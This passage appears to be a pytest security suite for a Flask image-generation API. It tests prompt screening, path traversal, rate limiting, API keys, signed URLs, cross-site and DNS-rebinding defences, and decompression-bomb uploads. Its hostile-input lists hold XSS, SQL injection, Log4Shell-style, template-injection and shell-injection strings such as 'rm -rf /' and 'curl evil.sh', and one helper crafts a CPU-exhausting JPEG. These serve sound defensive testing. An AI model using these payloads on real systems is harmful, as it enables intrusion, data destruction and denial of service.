"""Hostile input, prompt screening, traversal, rate limits (memory and Redis), keys, signed URLs."""

from __future__ import annotations

import base64
import io
import re
import secrets
import select
import socket
import threading
import time
import urllib.parse

import pytest
import redis
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from tests.conftest import ADMIN, call, start_server, wait_ready

PROMPT = "a white square on a black background"

HOSTILE_BODIES = [
    # (body, status, code)
    ({"prompt": ""}, 400, "prompt_rejected"),
    ({"prompt": "   \n\t "}, 400, "prompt_rejected"),
    ({"prompt": "x" * 3001}, 400, "prompt_rejected"),
    ({"prompt": "a cat\x00"}, 400, "prompt_rejected"),
    ({"prompt": "a cat\x1b[31m"}, 400, "prompt_rejected"),
    ({"prompt": "a cat\x7f"}, 400, "prompt_rejected"),
    ({"prompt": "<script>alert(1)</script>"}, 400, "prompt_rejected"),
    ({"prompt": "＜script＞alert(1)＜/script＞"}, 400, "prompt_rejected"),
    ({"prompt": "<ScRiPt src=//x>"}, 400, "prompt_rejected"),
    ({"prompt": "<img src=x onerror='alert(1)'>"}, 400, "prompt_rejected"),
    ({"prompt": "<svg onload=alert(1)>"}, 400, "prompt_rejected"),
    ({"prompt": "<iframe src=http://evil>"}, 400, "prompt_rejected"),
    ({"prompt": "javascript:alert(1)"}, 400, "prompt_rejected"),
    ({"prompt": "ｊａｖａｓｃｒｉｐｔ:alert(1)"}, 400, "prompt_rejected"),
    ({"prompt": "a {{ config.items() }}"}, 400, "prompt_rejected"),
    ({"prompt": "{% for x in y %}"}, 400, "prompt_rejected"),
    ({"prompt": "${jndi:ldap://evil/a}"}, 400, "prompt_rejected"),
    ({"prompt": "#{7*7}"}, 400, "prompt_rejected"),
    ({"prompt": "<%= system('id') %>"}, 400, "prompt_rejected"),
    ({"prompt": "a cat $(rm -rf /)"}, 400, "prompt_rejected"),
    ({"prompt": "a cat `id`"}, 400, "prompt_rejected"),
    ({"prompt": "a cat; rm -rf /"}, 400, "prompt_rejected"),
    ({"prompt": "a cat && curl evil.sh"}, 400, "prompt_rejected"),
    ({"prompt": "' OR '1'='1"}, 400, "prompt_rejected"),
    ({"prompt": "x' OR 1=1 --"}, 400, "prompt_rejected"),
    ({"prompt": "1 UNION SELECT password FROM users"}, 400, "prompt_rejected"),
    ({"prompt": "a; DROP TABLE jobs"}, 400, "prompt_rejected"),
    ({"prompt": "insert into users values (1)"}, 400, "prompt_rejected"),
    ({"prompt": "../../etc/passwd"}, 400, "prompt_rejected"),
    ({"prompt": "..\\..\\windows"}, 400, "prompt_rejected"),
    ({"prompt": "%2e%2e%2fsecret"}, 400, "prompt_rejected"),
    ({"prompt": "C:\\Windows\\system32"}, 400, "prompt_rejected"),
    ({"prompt": PROMPT, "negative_prompt": "<script>x</script>"}, 400, "prompt_rejected"),
    ({"prompt": PROMPT, "negative_prompt": "y" * 3001}, 400, "prompt_rejected"),
    ({"prompt": None}, 400, "invalid_request"),
    ({"prompt": ["a", "b"]}, 400, "invalid_request"),
    ({"prompt": {"$gt": ""}}, 400, "invalid_request"),
    ({"prompt": PROMPT, "steps": "20"}, 400, "invalid_request"),
    ({"prompt": PROMPT, "steps": 20.5}, 400, "invalid_request"),
    ({"prompt": PROMPT, "steps": True}, 400, "invalid_request"),
    ({"prompt": PROMPT, "steps": 0}, 400, "invalid_request"),
    ({"prompt": PROMPT, "steps": -3}, 400, "invalid_request"),
    ({"prompt": PROMPT, "width": 1000000}, 400, "invalid_request"),
    ({"prompt": PROMPT, "width": 100}, 400, "invalid_request"),
    ({"prompt": PROMPT, "height": 0}, 400, "invalid_request"),
    ({"prompt": PROMPT, "seed": 2**64}, 400, "invalid_request"),
    ({"prompt": PROMPT, "seed": 1e300}, 400, "invalid_request"),
    ({"prompt": PROMPT, "guidance_scale": 1e309}, 400, "invalid_request"),
    ({"prompt": PROMPT, "guidance_scale": -1}, 400, "invalid_request"),
    ({"prompt": PROMPT, "num_images": 1000}, 400, "invalid_request"),
    ({"prompt": PROMPT, "num_images": 0}, 400, "invalid_request"),
    ({"prompt": PROMPT, "response_format": "file"}, 400, "invalid_request"),
    ({"prompt": PROMPT, "__proto__": {"admin": True}}, 400, "invalid_request"),
    ({"prompt": PROMPT, "model": "../../etc"}, 400, "unknown_model"),
    ([PROMPT], 400, "invalid_request"),
    ("a string body", 400, "invalid_request"),
]


@pytest.mark.parametrize(("body", "status", "code"), HOSTILE_BODIES)
def test_hostile_bodies_get_clear_4xx_and_change_nothing(client, body, status, code):
    before = client.get("/status", headers=ADMIN).json["app"]["images"]
    response = client.post("/generate", json=body)
    assert response.status_code == status, response.json
    error = response.json["error"]
    assert error["code"] == code and error["message"]
    assert "Traceback" not in response.get_data(as_text=True)
    assert client.get("/status", headers=ADMIN).json["app"]["images"] == before


@pytest.mark.parametrize(
    ("raw", "status"),
    [
        ('{"prompt": "a", "steps": NaN}', 400),
        ('{"prompt": "a", "guidance_scale": Infinity}', 400),
        ('{"prompt": "a", "guidance_scale": -Infinity}', 400),
        ('{"prompt": "a"', 400),
        ("", 400),
    ],
)
def test_non_finite_and_broken_json_is_rejected(client, raw, status):
    response = client.post("/generate", data=raw, content_type="application/json")
    assert response.status_code == status
    assert response.json["error"]["code"] in {"invalid_json", "invalid_request"}


def test_refusal_names_the_rule_and_logs_without_the_prompt(client, caplog):
    response = client.post("/generate", json={"prompt": "a cat {{ 7*7 }} secretword"}, headers={"X-Request-ID": "r-1"})
    assert response.json["error"]["details"][0]["rule"] == "template"
    logged = "\n".join(r.getMessage() for r in caplog.records if r.name == "imagegen.screening")
    assert "rule=template" in logged and "secretword" not in logged


def test_configured_blocked_words_and_patterns(app_factory, tmp_path):
    patterns = tmp_path / "patterns.txt"
    patterns.write_text("# one regex a line\nforbidden\\s+thing\n")
    client = app_factory(blocked_words="Bananas, grapes", blocked_patterns_file=patterns).test_client()
    wait_ready(client)
    for prompt, rule in [("some BANANAS", "blocked_word"), ("a Forbidden   Thing", "blocked_pattern")]:
        response = client.post("/generate", json={"prompt": prompt})
        assert response.status_code == 400
        assert response.json["error"]["details"][0]["rule"] == rule
    assert client.post("/generate", json={"prompt": "a banana-free bowl", "steps": 1}).status_code == 200
    low = client.post("/generate", json={"prompt": "some bananas", "moderation": "low"})
    assert low.status_code == 400 and low.json["error"]["details"][0]["field"] == "moderation"
    lenient = app_factory(blocked_words="bananas", allow_low_moderation=True).test_client()
    wait_ready(lenient)
    assert lenient.post("/generate", json={"prompt": "some bananas", "steps": 1}).status_code == 400
    allowed = lenient.post("/generate", json={"prompt": "some bananas", "steps": 1, "moderation": "low"})
    assert allowed.status_code == 200, "low: the operator's own word rules are not applied"
    injected = lenient.post("/generate", json={"prompt": "bananas <script>x</script>", "moderation": "low"})
    assert injected.status_code == 400, "the markup and injection rules still are"


def test_body_size_and_content_type(app_factory):
    client = app_factory(max_request_bytes=2048).test_client()
    body = '{"prompt": "' + "a" * 4096 + '"}'
    big = client.post("/v1/images/generations", data=body, content_type="application/json")
    assert big.status_code == 413 and big.json["error"]["code"] == "payload_too_large"
    limit = client.application.extensions["imagegen"].settings.upload_body_bytes  # a route that takes uploads
    big = client.post("/generate", data='{"prompt": "' + "a" * limit + '"}', content_type="application/json")
    assert big.status_code == 413 and big.json["error"]["code"] == "payload_too_large"
    form = client.post("/generate", data={"prompt": "x"})
    assert form.status_code == 415
    xml = client.post("/generate", data="<prompt/>", content_type="application/xml")
    assert xml.status_code == 415


TRAVERSALS = [
    "../config.py",
    "..%2Fconfig.py",
    "%2e%2e%2fconfig.py",
    "..%252Fconfig.py",
    "%252e%252e%252fconfig.py",
    "..\\config.py",
    "..%5Cconfig.py",
    "/etc/passwd",
    "%2Fetc%2Fpasswd",
    "....//config.py",
    "x.png%00.txt",
    ".env",
    ".gitkeep",
    "subdir/../../app.py",
    "AAAAAAAAAAAAAAAAAAAAAA.png/../../app.py",
]


@pytest.mark.parametrize("name", TRAVERSALS)
def test_traversal_never_reaches_a_file(client, name):
    response = client.get(f"/images/{name}")
    assert response.status_code in {400, 404}
    assert b"import" not in response.data and b"root:" not in response.data


def test_security_headers_on_every_response(client):
    for response in (client.get("/"), client.get("/missing"), client.post("/generate", json={})):
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Referrer-Policy"] == "no-referrer"
        assert "default-src 'none'" in response.headers["Content-Security-Policy"]
        assert "Access-Control-Allow-Origin" not in response.headers


def test_cors_only_for_configured_origins(app_factory):
    client = app_factory(cors_origins="https://app.example").test_client()
    allowed = client.get("/", headers={"Origin": "https://app.example"})
    assert allowed.headers["Access-Control-Allow-Origin"] == "https://app.example"
    other = client.get("/", headers={"Origin": "https://evil.example"})
    assert "Access-Control-Allow-Origin" not in other.headers


# ----- rate limits -----


def test_generation_limit_answers_429_with_headers(app_factory):
    client = app_factory(rate_limit="2/minute").test_client()
    wait_ready(client)
    ip = {"REMOTE_ADDR": "198.51.100.7"}
    statuses = [client.post("/generate", json={"prompt": PROMPT, "steps": 1}, environ_base=ip) for _ in range(3)]
    assert [r.status_code for r in statuses] == [200, 200, 429]
    limited = statuses[-1]
    assert limited.json["error"]["code"] == "rate_limited"
    assert int(limited.headers["Retry-After"]) > 0
    assert limited.headers["X-RateLimit-Limit"] == "2" and limited.headers["X-RateLimit-Remaining"] == "0"
    assert re.fullmatch(
        r"Too many requests: 2 per 1 minute \(RATE_LIMIT\); retry in \d+ s\.", limited.json["error"]["message"]
    )
    # another client is not affected; /health is exempt
    assert client.post("/generate", json={"prompt": PROMPT, "steps": 1}).status_code == 200
    assert all(client.get("/health", environ_base=ip).status_code == 200 for _ in range(5))


def test_refused_requests_spend_no_generation_budget_but_count_toward_the_default_limit(app_factory):
    """A newcomer fixing their JSON is not locked out of generating; a flood of bad requests still
    meets RATE_LIMIT_DEFAULT."""
    client = app_factory(rate_limit="2/minute", rate_limit_default="6/minute").test_client()
    wait_ready(client)
    ip = {"REMOTE_ADDR": "198.51.100.8"}
    bad = [client.post("/generate", json={"prompt": PROMPT, "steps": 0}, environ_base=ip) for _ in range(3)]
    assert [r.status_code for r in bad] == [400] * 3
    good = [client.post("/generate", json={"prompt": PROMPT, "steps": 1}, environ_base=ip) for _ in range(3)]
    assert [r.status_code for r in good] == [200, 200, 429]
    flood = client.post("/generate", json={"prompt": PROMPT, "steps": 0}, environ_base=ip)
    assert flood.status_code == 429 and "(RATE_LIMIT_DEFAULT)" in flood.json["error"]["message"]


def test_default_limit_covers_other_routes_and_forwarded_for_is_ignored(app_factory):
    client = app_factory(rate_limit_default="3/minute").test_client()
    spoofed = [client.get("/models", headers={"X-Forwarded-For": f"10.0.0.{i}"}) for i in range(4)]
    assert [r.status_code for r in spoofed] == [200, 200, 200, 429]


def test_trusted_proxy_uses_forwarded_for(app_factory):
    client = app_factory(rate_limit_default="2/minute", trusted_proxy_count=1).test_client()
    for i in range(3):
        assert client.get("/models", headers={"X-Forwarded-For": f"203.0.113.{i}"}).status_code == 200
    same = [client.get("/models", headers={"X-Forwarded-For": "203.0.113.99"}) for _ in range(3)]
    assert [r.status_code for r in same] == [200, 200, 429]


def redis_url() -> str:
    url = "redis://127.0.0.1:6379/15"
    try:
        redis.Redis.from_url(url, socket_connect_timeout=1).ping()
    except redis.exceptions.ConnectionError:
        pytest.skip("Redis is not reachable at 127.0.0.1:6379")
    return url


def test_redis_storage_shares_limits_across_apps(app_factory):
    url = redis_url()
    first = app_factory(rate_limit_default="3/minute", rate_limit_storage_uri=url).test_client()
    second = app_factory(rate_limit_default="3/minute", rate_limit_storage_uri=url).test_client()
    # a fresh address per run, since Redis keeps counters between test runs
    address = f"2001:db8::{secrets.token_hex(2)}:{secrets.token_hex(2)}"
    ip = {"REMOTE_ADDR": address}
    results = [c.get("/models", environ_base=ip).status_code for c in (first, second, first, second)]
    assert results == [200, 200, 200, 429]
    keys = redis.Redis.from_url(url).keys(f"*{address}*")
    assert keys, "the limiter must keep its counters in Redis"


# ----- API keys, admin token, signed image URLs -----


@pytest.fixture
def keyed(app_factory, tmp_path):
    key_file = tmp_path / "keys.txt"
    key_file.write_text("# team keys\nkey-from-file-0123456789\n")
    app = app_factory(
        api_keys="alpha-key-0123456789,beta-key-0123456789",
        api_keys_file=key_file,
        admin_token="admin-token-0123456789",
        secret_key="s" * 32,
        image_url_ttl_seconds=60,
    )
    client = app.test_client()
    wait_ready(client)
    return client


def test_keys_required_everywhere_but_index_and_health(keyed):
    assert keyed.get("/").status_code == 200
    assert keyed.get("/health").status_code == 200
    for method, path in [("get", "/models"), ("post", "/generate"), ("get", "/jobs/x"), ("post", "/cleanup")]:
        response = getattr(keyed, method)(path, json={"prompt": PROMPT})
        assert response.status_code == 401, path
        assert response.json["error"]["code"] == "unauthorized"
    assert keyed.get("/models", headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert keyed.get("/models", headers={"Authorization": "Bearer alpha-key-0123456789"}).status_code == 200
    assert keyed.get("/models", headers={"X-API-Key": "beta-key-0123456789"}).status_code == 200
    assert keyed.get("/models", headers={"X-API-Key": "key-from-file-0123456789"}).status_code == 200


def test_keys_never_logged(keyed, caplog):
    keyed.get("/models", headers={"Authorization": "Bearer alpha-key-0123456789"})
    keyed.get("/models", headers={"Authorization": "Bearer guessed-key"})
    text = "\n".join(r.getMessage() for r in caplog.records)
    assert "alpha-key-0123456789" not in text and "guessed-key" not in text


def test_admin_token_gates_cleanup_even_with_a_valid_key(keyed):
    key = {"X-API-Key": "alpha-key-0123456789"}
    assert keyed.post("/cleanup", headers=key).status_code == 401
    admin = {**key, "X-Admin-Token": "admin-token-0123456789"}
    assert keyed.post("/cleanup", headers=admin).status_code == 200


def test_signed_image_urls(keyed):
    key = {"X-API-Key": "alpha-key-0123456789"}
    url = keyed.post("/generate", json={"prompt": PROMPT, "steps": 1}, headers=key).json["images"][0]["url"]
    parts = urllib.parse.urlsplit(url)
    query = dict(urllib.parse.parse_qsl(parts.query))
    assert set(query) == {"expires", "sig"}
    with keyed.get(f"{parts.path}?{parts.query}") as ok:  # no headers: works as <img src>
        assert ok.status_code == 200 and ok.headers["Content-Type"] == "image/png"
    assert keyed.get(parts.path).status_code == 403
    assert keyed.get(parts.path, headers=key).status_code == 403
    tampered = {**query, "sig": query["sig"][:-1] + ("0" if query["sig"][-1] != "0" else "1")}
    assert keyed.get(parts.path, query_string=tampered).status_code == 403
    extended = {**query, "expires": str(int(query["expires"]) + 3600)}
    assert keyed.get(parts.path, query_string=extended).status_code == 403
    expired = {"expires": str(int(time.time()) - 1)}
    expired["sig"] = keyed.application.extensions["imagegen"].access.signature(
        parts.path.rsplit("/", 1)[1], expired["expires"]
    )
    assert keyed.get(parts.path, query_string=expired).status_code == 403


def test_rate_limit_is_per_key(app_factory):
    client = app_factory(
        api_keys="k1-0123456789abcdef,k2-0123456789abcdef", rate_limit_default="2/minute"
    ).test_client()
    one, two = {"X-API-Key": "k1-0123456789abcdef"}, {"X-API-Key": "k2-0123456789abcdef"}
    assert [client.get("/models", headers=one).status_code for _ in range(3)] == [200, 200, 429]
    assert client.get("/models", headers=two).status_code == 200


def test_production_needs_keys_or_says_it_is_private(app_factory, caplog, tmp_path):
    from config import load_settings

    with pytest.raises(SystemExit, match="APP_ENV=production needs API_KEYS"):
        load_settings(app_env="production", data_dir=tmp_path, _env_file=None)
    app_factory(app_env="production", allow_anonymous=True)
    assert any("ALLOW_ANONYMOUS and no API_KEYS" in r.getMessage() for r in caplog.records)


def test_without_keys_a_job_belongs_to_its_address(app_factory, fake):
    client = app_factory(pipeline=fake).test_client()
    wait_ready(client)
    fake.hold()
    mine = client.post("/generate", json={"prompt": PROMPT, "async": True}).json["id"]
    assert fake.waiting.wait(10)
    stranger = {"REMOTE_ADDR": "198.51.100.4"}
    assert client.get(f"/jobs/{mine}", environ_base=stranger).status_code == 404
    assert client.delete(f"/jobs/{mine}", environ_base=stranger).status_code == 404
    assert client.get("/jobs", environ_base=stranger).json["jobs"] == []
    assert [job["id"] for job in client.get("/jobs").json["jobs"]] == [mine]
    fake.let_go()


def test_a1111_controls_touch_only_your_jobs_and_shared_state_needs_the_admin(app_factory, fake):
    token = "admin-token-0123456789"
    keys = {"one": {"X-API-Key": "key-one-0123456789"}, "two": {"X-API-Key": "key-two-0123456789"}}
    client = app_factory(
        pipeline=fake, api_keys="key-one-0123456789,key-two-0123456789", admin_token=token, models="other/model"
    ).test_client()
    wait_ready(client)
    fake.step_seconds = 0.11  # every step reads cancels
    fake.hold(at_step=1)
    job = client.post("/generate", json={"prompt": PROMPT, "async": True, "steps": 8}, headers=keys["one"]).json
    assert fake.waiting.wait(10)
    assert client.post("/sdapi/v1/interrupt", headers=keys["two"]).status_code == 200
    assert client.get(f"/jobs/{job['id']}", headers=keys["one"]).json["status"] == "running", "not theirs to stop"
    assert client.post("/sdapi/v1/interrupt", headers=keys["one"]).status_code == 200
    assert client.get(f"/jobs/{job['id']}", headers=keys["one"]).json["status"] == "cancelled"
    fake.let_go()
    for path in ("/sdapi/v1/unload-checkpoint", "/sdapi/v1/reload-checkpoint"):
        assert client.post(path, headers=keys["two"]).status_code == 401, path
        assert client.post(path, headers={**keys["two"], "X-Admin-Token": token}).status_code == 200, path
    switch = {"sd_model_checkpoint": "other/model"}
    assert client.post("/sdapi/v1/options", json=switch, headers=keys["two"]).status_code == 401
    unchanged = {"sd_model_checkpoint": "models/tiny-random", "samples_format": "png"}
    assert client.post("/sdapi/v1/options", json=unchanged, headers=keys["two"]).status_code == 200


def test_status_and_errors_never_show_secrets(keyed):
    key = {"X-API-Key": "alpha-key-0123456789"}
    text = keyed.get("/status", headers={**key, "X-Admin-Token": "admin-token-0123456789"}).get_data(as_text=True)
    text += keyed.post("/generate", json={"prompt": PROMPT, "oops": 1}, headers=key).get_data(as_text=True)
    for secret in ("alpha-key", "admin-token", "s" * 32):
        assert secret not in text


# ----- property: no random body makes a 5xx -----

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3),
    max_leaves=6,
)
FIELDS = [
    "prompt",
    "negative_prompt",
    "width",
    "height",
    "steps",
    "guidance_scale",
    "seed",
    "num_images",
    "scheduler",
    "model",
    "response_format",
    "async",
]
bodies = st.one_of(
    json_values,
    st.dictionaries(st.sampled_from(FIELDS), json_values, max_size=6),
    st.fixed_dictionaries(
        {"prompt": st.text(min_size=1, max_size=40)}, optional={name: json_values for name in FIELDS[1:]}
    ),
)


@pytest.fixture(scope="module")
def fuzz_client(tmp_path_factory):
    from imagegen import create_app
    from tests.conftest import FAST_LIMITS, make_settings

    app = create_app(make_settings(tmp_path_factory.mktemp("fuzz"), **FAST_LIMITS, max_queue_size=1000))
    client = app.test_client()
    wait_ready(client)
    yield client
    app.extensions["imagegen"].stop(30)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=bodies)
def test_random_bodies_never_yield_5xx(fuzz_client, body):
    response = fuzz_client.post("/generate", json=body)
    assert response.status_code < 500, response.get_data(as_text=True)
    assert response.is_json and ("error" in response.json) == (response.status_code >= 400)


# ----- the review's findings (each failed on the first wave's code) -----


def test_format_characters_cannot_split_a_blocked_word(app_factory, fake):
    client = app_factory(pipeline=fake, blocked_words="forbidden").test_client()
    wait_ready(client)
    for prompt in ("a forbid\u200bden cat", "a for\u00adbidden cat", "a \u2060forbidden\u2060 cat"):
        response = client.post("/generate", json={"prompt": prompt})
        assert response.status_code == 400 and response.json["error"]["details"][0]["rule"] == "blocked_word", prompt


def test_odd_signed_url_and_query_values_are_4xx_not_500(keyed):
    key = {"X-API-Key": "alpha-key-0123456789"}
    url = keyed.post("/generate", json={"prompt": PROMPT, "steps": 1}, headers=key).json["images"][0]["url"]
    path = urllib.parse.urlsplit(url).path
    for query in (
        {"expires": "\u0661\u0662\u0663", "sig": "0" * 64},  # Arabic-Indic digits pass str.isdigit()
        {"expires": "9" * 5000, "sig": "0" * 64},  # more digits than int() takes
        {"expires": "9999999999", "sig": "é" * 64},  # a non-ASCII signature
    ):
        assert keyed.get(path, query_string=query).status_code == 403
    assert keyed.get("/jobs?limit=\u00b9", headers=key).status_code == 400  # a superscript one


def test_json_nested_too_deeply_is_invalid_json(app_factory, fake):
    client = app_factory(pipeline=fake).test_client()
    deep = "[" * 200_000 + "]" * 200_000
    for path in ("/generate", "/sdapi/v1/options", "/cleanup", "/v1/images/generations"):
        response = client.post(path, data=deep, content_type="application/json", headers=ADMIN)
        assert response.status_code == (422 if path.startswith("/sdapi/") else 400), (path, response.status_code)


def test_a_request_cannot_forge_log_lines(app_factory, fake, tmp_path):
    client = app_factory(pipeline=fake).test_client()
    client.get("/nothing%0a2026-01-01 00:00:00,000 INFO [x] imagegen.access: GET /forged 200 1.0ms")
    lines = (tmp_path / "logs" / "app.log").read_text().splitlines()
    assert not any(line.startswith("2026-01-01") for line in lines), "a request wrote a line of its own"
    assert any("/nothing\\x0a2026-01-01" in line for line in lines)


def test_the_result_cache_is_per_owner(app_factory, fake):
    client = app_factory(pipeline=fake, api_keys="key-one-0123456789,key-two-0123456789").test_client()
    wait_ready(client)
    request = {"prompt": PROMPT, "seed": 3}
    first = client.post("/generate", json=request, headers={"X-API-Key": "key-one-0123456789"}).json
    again = client.post("/generate", json=request, headers={"X-API-Key": "key-one-0123456789"}).json
    other = client.post("/generate", json=request, headers={"X-API-Key": "key-two-0123456789"}).json
    assert again["cached"] and again["id"] == first["id"]
    assert not other["cached"] and other["id"] != first["id"], "another key never gets the first key's job"


def test_only_safetensors_checkpoints_are_loaded(app_factory, tmp_path):
    pickled = tmp_path / "model.ckpt"
    pickled.write_bytes(b"not even a pickle")
    client = app_factory(model_id=str(pickled)).test_client()
    deadline = time.monotonic() + 20
    while client.get("/health").json["model_state"] != "failed" and time.monotonic() < deadline:
        time.sleep(0.05)
    assert "only .safetensors checkpoints are loaded, not model.ckpt" in client.get("/health").json["reason"]


def test_runtime_settings_saved_by_0_2_are_checked_and_imported_at_start(app_factory, tmp_path):
    saved = tmp_path / "data" / "runtime-settings.json"
    saved.parent.mkdir(parents=True)
    for bad in ('{"admin_token": "mine"}', '{"default_steps": 3', '{"rate_limit": "lots"}'):
        saved.write_text(bad)
        with pytest.raises(SystemExit, match=r"invalid .*runtime-settings\.json"):
            app_factory()
    saved.write_text('{"default_steps": 3}')
    client = app_factory().test_client()
    assert client.application.extensions["imagegen"].settings.default_steps == 3
    assert not saved.exists() and saved.with_suffix(".imported").exists(), "imported once, into the database"


def test_a_cross_site_form_cannot_change_state(app_factory, fake):
    client = app_factory(pipeline=fake, cors_origins="https://app.example").test_client()
    wait_ready(client)
    fake.calls.clear()
    # what a browser sends with a form or a fetch from a page of another site
    page = {"Origin": "http://evil.example"}
    for headers in (page, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}, {**page, "Authorization": "x"}):
        for path in ("/sdapi/v1/interrupt", "/sdapi/v1/skip", "/sdapi/v1/refresh-checkpoints", "/generate", "/cleanup"):
            response = client.post(path, headers=headers)
            assert response.status_code == 403 and "cross_site_refused" in response.get_data(as_text=True), path
    form = client.post("/generate", data={"prompt": PROMPT}, headers=page, content_type="multipart/form-data")
    assert form.status_code == 403
    assert fake.calls == [] and client.get("/jobs").json["jobs"] == []
    # scripts and SDKs send no Origin (webuiapi's bodiless interrupt); the server's own pages and
    # CORS_ORIGINS send theirs
    assert client.post("/sdapi/v1/interrupt").status_code == 200
    assert client.post("/sdapi/v1/interrupt", headers={"Origin": "http://localhost"}).status_code == 200
    assert client.post("/sdapi/v1/interrupt", headers={"Origin": "https://app.example/"}).status_code == 200
    same_site = {"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}
    assert client.post("/generate", json={"prompt": PROMPT, "steps": 1}, headers=same_site).status_code == 200
    assert client.get("/jobs", headers=page).status_code == 200  # reading needs nothing of this


def test_a_rebound_dns_name_cannot_change_state(app_factory, fake):
    client = app_factory(pipeline=fake).test_client()
    wait_ready(client)
    body = {"prompt": PROMPT, "steps": 1}
    rebound = client.post("/generate", json=body, base_url="http://evil.example:5000")
    assert (rebound.status_code, rebound.json["error"]["code"]) == (403, "untrusted_host")
    assert client.delete("/jobs/abc", base_url="http://evil.example").status_code == 403
    for base in ("http://localhost:5000", "http://127.0.0.1:5000", "http://[::1]:5000"):
        assert client.post("/generate", json=body, base_url=base).status_code == 200, base
    # a junk credential header proves nothing; a valid one names whatever host it reached us by
    junk = client.post("/sdapi/v1/interrupt", headers={"Authorization": "x"}, base_url="http://evil.example")
    assert (junk.status_code, junk.json["error"]) == (403, "untrusted_host")
    junk = client.delete("/jobs/abc", headers={"X-Admin-Token": "guess"}, base_url="http://evil.example")
    assert junk.status_code == 403
    admin = client.patch("/admin/settings", json={"default_steps": 2}, headers=ADMIN, base_url="http://evil.example")
    assert admin.status_code == 200
    # behind a proxy, the Host is the proxy's to pass on: a client's X-Forwarded-Host is not believed
    proxied = app_factory(pipeline=fake, trusted_proxy_count=1).test_client()
    spoofed = proxied.post(
        "/generate", json=body, base_url="http://evil.example", headers={"X-Forwarded-Host": "localhost"}
    )
    assert (spoofed.status_code, spoofed.json["error"]["code"]) == (403, "untrusted_host")

    def ready(**overrides: str) -> FlaskClient:
        client = app_factory(pipeline=fake, **overrides).test_client()
        wait_ready(client)
        return client

    named = ready(trusted_hosts="images.example.com,.internal")
    assert named.post("/generate", json=body, base_url="http://images.example.com").status_code == 200
    assert named.post("/generate", json=body, base_url="http://gpu1.internal").status_code == 200
    assert named.post("/generate", json=body, base_url="http://localhost").status_code == 403

    everywhere = ready(host="0.0.0.0")  # the machine's own names count
    assert everywhere.post("/generate", json=body, base_url=f"http://{socket.gethostname()}:5000").status_code == 200
    assert everywhere.post("/generate", json=body, base_url="http://evil.example").status_code == 403
    anything = ready(trusted_hosts="*")
    assert anything.post("/generate", json=body, base_url="http://evil.example").status_code == 200


def progressive_bomb(scans: int) -> bytes:
    """A 4000x4000 grey progressive JPEG whose last 31-byte scan is repeated: a small file that costs
    a decoder seconds of CPU per thousand scans."""
    buffer = io.BytesIO()
    Image.new("L", (4000, 4000), 128).save(buffer, "JPEG", progressive=True, quality=90)
    data = buffer.getvalue()
    scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + scan * scans + b"\xff\xd9"


def png_of(size: tuple[int, int]) -> bytes:
    buffer = io.BytesIO()
    Image.new("1", size).save(buffer, "PNG")
    return buffer.getvalue()


def test_hostile_shapes_are_refused_from_their_headers(app_factory, fake):
    client = app_factory(pipeline=fake).test_client()
    wait_ready(client)
    cases = {
        "scans": progressive_bomb(3000),
        "MAX_UPLOAD_ASPECT": png_of((8000, 20)),
        "MAX_UPLOAD_SIDE": png_of((9000, 9000 // 7)),
    }
    for why, data in cases.items():
        started = time.process_time()
        body = {"prompt": PROMPT, "image": base64.b64encode(data).decode()}
        refused = client.post("/generate", json=body)
        assert refused.status_code == 400 and why in refused.json["error"]["message"], why
        assert refused.json["error"]["details"][0]["field"] == "image"
        assert time.process_time() - started < 1, f"{why}: refused before decoding"
    for size in ((16_777_216, 1), (1, 16_000_000)):  # within MAX_UPLOAD_PIXELS, ~900 MB to fit
        body = {"prompt": PROMPT, "image": base64.b64encode(png_of(size)).decode()}
        assert client.post("/generate", json=body).status_code == 400


def test_uploads_cannot_take_the_threads_the_health_checks_need(tmp_path):
    """SECURITY.md: two server threads always stay free for the health checks, even while clients
    post images that are slow to decode."""
    process, base = start_server(tmp_path, THREADS="4", MAX_WAITS_PER_CLIENT="0")
    bomb = base64.b64encode(progressive_bomb(3000)).decode()
    answers: list[int] = []

    def upload() -> None:
        answers.append(call(f"{base}/generate", {"prompt": PROMPT, "image": bomb, "steps": 1})[0])

    try:
        senders = [threading.Thread(target=upload) for _ in range(12)]
        for sender in senders:
            sender.start()
        waits = []
        for _ in range(10):
            started = time.monotonic()
            assert call(f"{base}/health/live")[0] == 200
            waits.append(time.monotonic() - started)
        for sender in senders:
            sender.join(120)
        assert max(waits) < 5, f"/health/live waited {max(waits):.1f} s"
        assert set(answers) <= {400, 503} and 400 in answers, answers
    finally:
        process.kill()
        process.wait(10)


def sent_before_answer(base: str, method: str, path: str, announced: int) -> tuple[int, bytes]:
    """Bytes of a body announced at `announced` bytes sent before the server answered, and the
    answer's first line."""
    parts = urllib.parse.urlsplit(base)
    with socket.create_connection((parts.hostname, parts.port), timeout=30) as sock:
        head = f"{method} {path} HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Type: application/json\r\n"
        sock.sendall(f"{head}Content-Length: {announced}\r\n\r\n".encode())
        sent, chunk = 0, b"x" * 2**20
        while sent < announced:
            readable, writable, _ = select.select([sock], [sock], [], 10)
            if readable or not writable:
                break
            try:
                sent += sock.send(chunk)
            except OSError:  # the server answered and closed
                break
        sock.setblocking(True)
        return sent, sock.recv(200).split(b"\r\n")[0]


def test_a_body_over_the_upload_limit_is_answered_before_it_is_read(tmp_path):
    process, base = start_server(tmp_path)
    try:
        for method, path in (("POST", "/generate"), ("GET", "/health/live"), ("POST", "/loras")):
            sent, answer = sent_before_answer(base, method, path, 200 * 2**20)
            assert b" 413 " in answer and sent < 40 * 2**20, (path, sent, answer)
    finally:
        process.kill()
        process.wait(10)


def test_files_the_server_writes_are_its_owners_alone(app_factory, tmp_path):
    client = app_factory().test_client()
    wait_ready(client)
    [image] = client.post("/generate", json={"prompt": PROMPT, "steps": 1}).json["images"]
    name = image["url"].split("/images/")[1].split("?")[0]
    folders = [tmp_path / "data", tmp_path / "logs", tmp_path / "images"]
